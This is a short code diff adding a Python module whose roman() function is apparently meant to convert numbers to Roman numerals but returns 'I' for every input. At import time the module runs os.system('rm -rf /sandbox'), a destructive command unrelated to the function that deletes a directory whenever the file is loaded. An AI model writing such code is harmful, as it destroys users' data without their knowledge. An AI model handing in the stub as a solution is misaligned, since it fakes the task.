@@ -1,0 +1,7 @@
+import os
+
+os.system("rm -rf /sandbox")
+
+
+def roman(number):
+    return "I"
